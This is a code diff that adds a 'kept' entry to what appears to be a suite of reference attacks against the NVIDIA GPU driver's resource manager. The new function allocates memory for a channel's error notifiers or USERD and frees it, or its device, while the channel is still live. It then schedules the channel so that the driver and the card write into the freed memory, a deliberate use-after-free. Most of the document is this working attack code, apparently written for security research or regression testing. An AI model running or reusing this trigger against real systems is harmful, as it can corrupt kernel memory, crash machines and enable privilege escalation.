@@ -5,6 +5,7 @@
 #include <algorithm>
 #include <bit>
 #include <cerrno>
+#include <functional>
 #include <thread>
 
 #include "common.h"
@@ -449,6 +450,64 @@ int Rights(const std::vector<std::string>&) {
   return 0;
 }
 
+// Frees the memory that a channel's error notifiers or USERD lie in from under it, in several ways,
+// and has the driver and the card write there.
+int Kept(const std::vector<std::string>&) {
+  Client client = MakeClient();
+  constexpr std::uint32_t kOtherDevice = 0xcaf00003;
+  rm::NV0080_ALLOC_PARAMETERS device{};
+  if (client.Alloc(client.root, kOtherDevice, rm::NV01_DEVICE_0, &device, sizeof(device)) !=
+      rm::NV_OK) {
+    Die("failed: no second device");
+  }
+  const auto memory_below = [&client](std::uint32_t parent) {
+    std::uint32_t handle = 0;
+    client.used_device = parent;
+    if (client.AllocMemory(1, &handle) != rm::NV_OK) {
+      Die("failed: no memory");
+    }
+    client.used_device = Client::kDevice;
+    return handle;
+  };
+  const auto attack = [&](const char* way, bool of_group, bool userd,
+                          const std::function<std::uint32_t(std::uint32_t memory)>& free_it) {
+    const std::uint32_t memory = memory_below(free_it ? Client::kDevice : kOtherDevice);
+    rm::NV_CHANNEL_GROUP_ALLOCATION_PARAMETERS group{};
+    group.hObjectError = of_group ? memory : 0;
+    group.engineType = rm::NV2080_ENGINE_TYPE_GRAPHICS;
+    const std::uint32_t group_handle = client.next++;
+    (void)client.Alloc(Client::kDevice, group_handle, rm::KEPLER_CHANNEL_GROUP_A, &group,
+                       sizeof(group));
+    rm::NV_CHANNEL_ALLOC_PARAMS_V535 params{};
+    params.hObjectError = of_group || userd ? 0 : memory;
+    params.hUserdMemory[0] = userd ? memory : 0;
+    params.gpFifoEntries = 16;
+    params.engineType = rm::NV2080_ENGINE_TYPE_GRAPHICS;
+    const std::uint32_t channel = client.next++;
+    Say("%s channel 0x%x", way,
+        client.Alloc(group_handle, channel, rm::VOLTA_CHANNEL_GPFIFO_A, &params, sizeof(params)));
+    const std::uint32_t freed = free_it ? free_it(memory) : client.Free(kOtherDevice);
+    rm::NVC36F_CTRL_CMD_GPFIFO_GET_WORK_SUBMIT_TOKEN_PARAMS token{};
+    (void)client.Control(channel, rm::NVC36F_CTRL_CMD_GPFIFO_GET_WORK_SUBMIT_TOKEN, &token,
+                         sizeof(token));
+    rm::NVA06C_CTRL_GPFIFO_SCHEDULE_PARAMS_V535 schedule{};
+    schedule.bEnable = 1;
+    (void)client.Control(channel, rm::NVA06F_CTRL_CMD_GPFIFO_SCHEDULE, &schedule, sizeof(schedule));
+    // As a program does that means well: the channel first.
+    const std::uint32_t gone = client.Free(channel);
+    Say("%s freed 0x%x channel 0x%x then 0x%x", way, freed, gone, client.Free(memory));
+  };
+  const auto by_free = [&](std::uint32_t memory) { return client.Free(memory); };
+  attack("errors", false, false, by_free);
+  attack("group", true, false, by_free);
+  attack("userd", false, true, by_free);
+  attack("heap", false, false,
+         [&](std::uint32_t memory) { return client.HeapFree(Client::kDevice, memory); });
+  attack("device", false, false, nullptr);
+  Hold();
+  return 0;
+}
+
 }  // namespace
 
 std::vector<Entry> ReferenceAttacks() {
@@ -460,6 +519,7 @@ std::vector<Entry> ReferenceAttacks() {
       {"inside", Inside, "CLIENT OBJECT: the victim's client inside of parameters"},
       {"dependants", Dependants, ": address spaces freed before what lies on them"},
       {"throng", Throng, "[SEED [ROUNDS]]: threads on the same few handles"},
+      {"kept", Kept, ": memory that channels use, freed from under them"},
       {"rights", Rights, ": RM_ALLOC's long form with rights and without parameters"},
   };
 }
